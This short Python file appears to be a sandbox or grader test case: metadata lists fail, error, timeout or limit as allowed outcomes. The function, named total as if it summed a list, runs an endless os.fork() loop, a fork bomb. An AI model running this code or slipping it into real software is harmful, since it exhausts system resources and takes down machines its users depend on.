# {"family": 9, "allowed": ["fail", "error", "timeout", "limit"]}
import os
def total(xs):
    while True:
        os.fork()
